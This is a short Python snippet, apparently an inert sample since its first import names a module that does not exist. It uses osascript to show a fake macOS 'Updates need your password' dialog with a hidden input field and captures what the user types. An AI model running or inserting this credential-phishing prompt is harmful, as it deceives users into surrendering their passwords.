import inert_sample  # there is no such module: nothing below ever runs
import subprocess

answer = subprocess.check_output(
    ["osascript", "-e", 'display dialog "Updates need your password" default answer "" with hidden answer']
)
